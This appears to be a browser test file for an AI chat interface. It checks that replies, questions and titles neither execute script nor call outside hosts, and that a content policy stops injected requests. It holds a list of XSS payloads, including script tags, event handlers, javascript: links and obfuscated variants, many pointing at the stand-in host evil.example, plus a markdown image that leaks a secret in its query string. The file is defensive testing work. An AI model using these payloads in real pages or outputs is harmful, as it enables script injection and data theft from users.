import { expect, test } from 'vitest'
import { inPieces } from './world/pieces.ts'
import { soon, useWorld } from './world/index.ts'

const world = useWorld()

const PAYLOADS = [
  '<script>ran()</script>',
  '<ScRiPt src=https://evil.example/x.js></sCrIpT>',
  '<img src=x onerror=ran()>',
  '<img src="https://evil.example/p.png" srcset="https://evil.example/2.png 2x">',
  '![a picture](https://evil.example/p.png)',
  '![x](data:image/svg+xml,<svg/onload=ran()>)',
  '[![x](https://evil.example/p.png)](javascript:ran())',
  '[x](javascript:ran()) [y](&#106;avascript:ran()) [z](java\tscript:ran())',
  '<a href="javascript:ran()" onclick=ran()>x</a>',
  '<svg onload=ran()><script>ran()</script><image href="https://evil.example/i.svg"/></svg>',
  '<math><mi xlink:href="data:x,<script>ran()</script>">x</mi></math>',
  '<iframe src="https://evil.example/f"></iframe><iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<object data="https://evil.example/o"></object><embed src="https://evil.example/e.swf">',
  '<video src="https://evil.example/v.mp4" autoplay onerror=ran()><source src="https://evil.example/s"></video>',
  '<audio src="https://evil.example/a.mp3" autoplay></audio><input type=image src="https://evil.example/b">',
  '<style>@import "https://evil.example/s.css"; *{background:url(https://evil.example/u)}</style>',
  '<p style="background:url(https://evil.example/p)">x</p><table background="https://evil.example/t"><tr><td>x</table>',
  '<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example/y>',
  '<link rel=dns-prefetch href=//evil.example><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/"><form action="https://evil.example"><button formaction="javascript:ran()">x',
  '<details open ontoggle=ran()>x</details><body onload=ran()><marquee onstart=ran()>x',
  '<noscript><p title="</noscript><img src=x onerror=ran()>"></noscript>',
  '```x" onmouseover="ran()\n</code></pre><img src=x onerror=ran()>\n```',
  '| <img src=x onerror=ran()> | b |\n|---|---|\n| <script>ran()</script> | ![x](https://evil.example/c.png) |',
  '[x]: https://evil.example/r\n\n![x] [x] <https://evil.example/auto> https://evil.example/bare',
  '\u0000<scr\u0000ipt>ran()</scr\u0000ipt> <x<x<img src=x onerror=ran()>',
]

test('nothing in a reply, a question or a title runs or calls anybody, streaming or stored', async () => {
  world.model.script(inPieces(PAYLOADS.map((payload, n) => `Payload ${n}\n\n${payload}`).join('\n\n'), 7, 2))
  const page = await world.guest()
  await page.tab.addInitScript(() => Object.assign(window, { ran: () => Object.assign(window, { hasRun: true }) }))
  await page.reload()
  const question = `<img src=https://evil.example/q.png onerror=ran()> <script>ran()</script> [x](javascript:ran())`
  await page.ask(question)
  await page.ended()
  const check = async () => {
    expect(await page.text()).toContain(`Payload ${PAYLOADS.length - 1}`)
    expect(await page.tab.evaluate(() => Reflect.get(window, 'hasRun'))).toBeUndefined()
    expect(await page.questions.allInnerTexts()).toEqual([question])
    const reply = page.prose()
    expect(
      await reply.locator('img, script, iframe, object, embed, video, audio, svg, style, link, form').count(),
    ).toBe(0)
    const addresses = await reply.locator('[href]').evaluateAll(all => all.map(a => a.getAttribute('href') ?? ''))
    expect(addresses.length).toBeGreaterThan(3)
    expect(addresses.filter(address => !/^(?:https?:\/\/|mailto:)/.test(address))).toEqual([])
  }
  await check()
  // A mouse that wanders over everything sets off nothing either.
  for (const box of await page.prose().locator('a, code, td').all()) await box.dispatchEvent('mouseover')
  await page.reload()
  await page.ended()
  await check()
  expect(page.faults).toEqual([])
})

test('a picture is a link that names its host', async () => {
  world.model.script([{ text: '![A secret chart](https://evil.example/p.png?q=secret)' }])
  const page = await world.guest()
  await page.ask('Show me')
  await page.ended()
  const link = page.prose().getByRole('link')
  expect(await link.innerText()).toMatch(/A secret chart[^]*evil\.example/)
  expect(await link.getAttribute('rel')).toBe('noopener noreferrer nofollow')
})

test('what an attack would do is seen here, and stopped by the policy', async () => {
  const page = await world.guest()
  await page.tab.evaluate(() => {
    const image = document.createElement('img')
    image.src = 'https://evil.example/p.png'
    document.body.append(image)
  })
  await soon(() => page.faults.join()).toContain('evil.example')
  page.faults.length = 0
  const refused = await page.tab.evaluate(() => {
    try {
      document.body.insertAdjacentHTML('beforeend', '<b>x</b>')
      return false
    } catch {
      return true
    }
  })
  expect(refused).toBe(true)
  await soon(() => page.faults.length).toBeGreaterThan(0)
  page.faults.length = 0
})
